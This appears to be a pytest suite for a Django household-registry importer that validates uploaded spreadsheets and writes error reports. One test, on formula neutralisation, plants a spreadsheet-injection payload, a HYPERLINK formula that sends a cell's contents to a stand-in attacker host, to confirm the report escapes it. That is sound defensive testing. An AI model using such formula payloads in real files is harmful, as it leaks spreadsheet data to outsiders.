"""A file with any error writes nothing; each error names sheet, row and column; the report marks the cells
and, once fixed, imports as is."""

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from fupin.registry import services
from fupin.registry.template import ERROR_COLUMN, MEMBERS
from fupin.registry.tests.importing import VILLAGE, dump, form, write_csvs, write_xlsx


def _run(users, tmp_path, data, actor="clerk", headers=None):
    before = dump()
    r = services.import_registry([write_xlsx(tmp_path / "in.xlsx", data, headers)], actor=users[actor],
                                 report_path=tmp_path / "in-errors.xlsx")
    assert not r.ok
    assert dump() == before  # nothing written
    assert r.created == r.updated == r.unchanged == 0
    return r


def _errors(r):
    return {(e.sheet, e.row, e.column): e.message for e in r.errors}


def test_wrong_check_digit(users, tmp_path):
    data = form(2)
    number = data["家庭成员"][1]["证件号码"]
    data["家庭成员"][1]["证件号码"] = number[:17] + ("0" if number[17] != "0" else "1")
    r = _run(users, tmp_path, data)
    assert "校验位错误" in _errors(r)[("家庭成员", 3, "证件号码")]
    assert r.rejected == 1


def test_full_width_digits_are_accepted(users, tmp_path):
    data = form(1)
    data["家庭成员"][0]["证件号码"] = data["家庭成员"][0]["证件号码"].translate(str.maketrans("0123456789", "０１２３４５６７８９"))
    r = services.import_registry([write_xlsx(tmp_path / "in.xlsx", data)], actor=users["clerk"])
    assert r.ok, r.errors


def test_duplicated_id_in_the_file(users, tmp_path):
    data = form(2)
    data["家庭成员"][4]["证件号码"] = data["家庭成员"][1]["证件号码"]  # row 6 repeats row 3
    data["家庭成员"][4]["性别"] = data["家庭成员"][1]["性别"]
    data["家庭成员"][4]["出生日期"] = data["家庭成员"][1]["出生日期"]
    errors = _errors(_run(users, tmp_path, data))
    assert "重复（第 3,6 行）" in errors[("家庭成员", 3, "证件号码")]
    assert "重复" in errors[("家庭成员", 6, "证件号码")]


def test_id_active_in_another_household(users, households, tmp_path):
    other = households["533301101201"]
    taken = other.members.get(relation="01")
    data = form(1)
    data["家庭成员"][2].update({"证件号码": taken.id_number, "性别": "", "出生日期": ""})
    message = _errors(_run(users, tmp_path, data, actor="county"))[("家庭成员", 4, "证件号码")]
    assert other.number not in message and "其他户的在册成员" in message and "县级" in message  # never where


def test_birth_date_and_sex_disagree_with_the_id(users, tmp_path):
    data = form(1)
    data["家庭成员"][0]["出生日期"] = "1970-03-05"
    data["家庭成员"][1]["性别"] = "男"
    errors = _errors(_run(users, tmp_path, data))
    assert "出生日期与身份证号码不符（应为 1970-03-04）" in errors[("家庭成员", 2, "出生日期")]
    assert "性别与身份证号码不符" in errors[("家庭成员", 3, "性别")]


def test_unknown_village(users, tmp_path):
    data = form(1)
    data["户"][0]["行政村代码"] = "533301205999"
    assert "不是已加载的行政村代码" in _errors(_run(users, tmp_path, data))[("户", 2, "行政村代码")]


def test_village_outside_the_actors_region(users, tmp_path):
    data = form(1, village="533323101201")  # 福贡县: not the clerk's village
    assert "不在您的管辖范围内" in _errors(_run(users, tmp_path, data))[("户", 2, "行政村代码")]


def test_existing_household_outside_the_region_cannot_be_updated(users, households, tmp_path):
    data = form(1)
    data["户"][0]["户编号"] = households["533323101201"].number
    for row in data["家庭成员"] + data["收入"]:
        row["户编号"] = households["533323101201"].number
    assert "管辖范围以外" in _errors(_run(users, tmp_path, data))[("户", 2, "户编号")]


def test_heads_codes_numbers_and_orphans(users, tmp_path):
    data = form(2)
    data["家庭成员"][1]["与户主关系"] = "户主"  # second head in household 1
    data["家庭成员"][3]["与户主关系"] = "之子"  # household 2 has no head left
    data["户"][0]["主要致贫原因"] = "因穷"
    data["户"][0]["耕地面积（亩）"] = "三亩"
    data["收入"][0]["户编号"] = "999"
    data["户"][1]["是否通宽带"] = "有"
    errors = _errors(_run(users, tmp_path, data))
    assert "2 名户主" in errors[("家庭成员", 3, "与户主关系")]
    assert "没有户主" in errors[("户", 3, "户编号")]
    assert "“因穷”" in errors[("户", 2, "主要致贫原因")]
    assert "不是数值" in errors[("户", 2, "耕地面积（亩）")]
    assert "不在“户”表中" in errors[("收入", 2, "户编号")]
    assert "是、否 或 未采集" in errors[("户", 3, "是否通宽带")]


def test_empty_file(users, tmp_path):
    (tmp_path / "empty.csv").write_bytes(b"")
    before = dump()
    r = services.import_registry([tmp_path / "empty.csv"], actor=users["clerk"])
    assert any("is empty" in e.message and e.sheet == "empty.csv" for e in r.errors)
    assert dump() == before


def test_sheet_with_headers_only(users, tmp_path):
    data = form(1)
    data["收入"] = []
    r = _run(users, tmp_path, data)
    assert any(e.sheet == "收入" and "has no data rows" in e.message for e in r.errors)


def test_missing_and_unknown_headers(users, tmp_path):
    headers = {"家庭成员": [h for h in MEMBERS.headers if h not in ("民族", "健康状况")] + ["备注"]}
    r = _run(users, tmp_path, form(1), headers=headers)
    messages = [e.message for e in r.errors if e.sheet == "家庭成员" and e.row == 0]
    assert any("missing columns: 民族、健康状况" in m for m in messages)
    # an unknown column is ignored with a warning on the header row (issue 22), not an error
    assert [(w.row, w.column, w.message) for w in r.warnings if w.sheet == "家庭成员"] == [(1, "备注", "unknown column, ignored")]


def test_missing_csv_sheet(users, tmp_path):
    paths = write_csvs(tmp_path / "csv", form(1))
    r = services.import_registry(paths[:2], actor=users["clerk"])
    assert any(e.sheet == "收入" and "缺少工作表" in e.message for e in r.errors)


def test_error_report_marks_cells_and_imports_once_fixed(users, tmp_path):
    data = form(2)
    good = data["家庭成员"][1]["证件号码"]
    data["家庭成员"][1]["证件号码"] = good[:17] + ("0" if good[17] != "0" else "1")
    data["户"][1]["行政村代码"] = "533301205999"
    r = _run(users, tmp_path, data)
    wb = load_workbook(r.error_report)
    ws = wb["家庭成员"]
    headers = [c.value for c in ws[1]]
    assert headers[-1] == ERROR_COLUMN
    col = headers.index("证件号码")
    bad = ws.cell(row=3, column=col + 1)
    assert bad.fill.fgColor.rgb.endswith("FFC7CE")
    assert ws.cell(row=2, column=col + 1).fill.fgColor.rgb in (None, "00000000")
    assert "校验位错误" in ws.cell(row=3, column=len(headers)).value
    hs = wb["户"]
    hheaders = [c.value for c in hs[1]]
    assert hs.cell(row=3, column=hheaders.index("行政村代码") + 1).fill.fgColor.rgb.endswith("FFC7CE")
    assert "错误汇总" in wb.sheetnames
    # the clerk fixes the two cells in Excel and imports the report itself
    bad.value = good
    hs.cell(row=3, column=hheaders.index("行政村代码") + 1).value = VILLAGE
    wb.save(tmp_path / "fixed.xlsx")
    r2 = services.import_registry([tmp_path / "fixed.xlsx"], actor=users["clerk"])
    assert r2.ok, r2.errors
    assert r2.created == 2


def test_command_writes_report_next_to_input_and_fails(users, tmp_path):
    data = form(1)
    data["户"][0]["行政村代码"] = "533301205999"
    path = write_xlsx(tmp_path / "village.xlsx", data)
    before = dump()
    with pytest.raises(CommandError, match=r"village-errors\.xlsx"):
        call_command("import_registry", str(path), "--user", "clerk", verbosity=0)
    assert (tmp_path / "village-errors.xlsx").exists()
    assert dump() == before


def test_command_imports(users, tmp_path, capsys):
    path = write_xlsx(tmp_path / "ok.xlsx", form(2))
    call_command("import_registry", str(path), "--user", "clerk", verbosity=0)
    assert "created 2" in capsys.readouterr().out


def test_error_report_neutralises_formula_cells(users, tmp_path):
    """issue 20 A10: the error workbook copies the uploaded cells; a formula typed as a name stays text."""
    data = form(2)
    number = data["家庭成员"][1]["证件号码"]
    data["家庭成员"][1]["证件号码"] = number[:17] + ("0" if number[17] != "0" else "1")
    data["家庭成员"][1]["姓名"] = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    data["家庭成员"][0]["姓名"] = "@SUM(1+1)"
    r = _run(users, tmp_path, data)
    wb = load_workbook(r.error_report)
    values = [v for row in wb["家庭成员"].iter_rows(values_only=True) for v in row if isinstance(v, str)]
    assert not any(v.startswith(("=", "@")) for v in values)
    assert "'@SUM(1+1)" in values
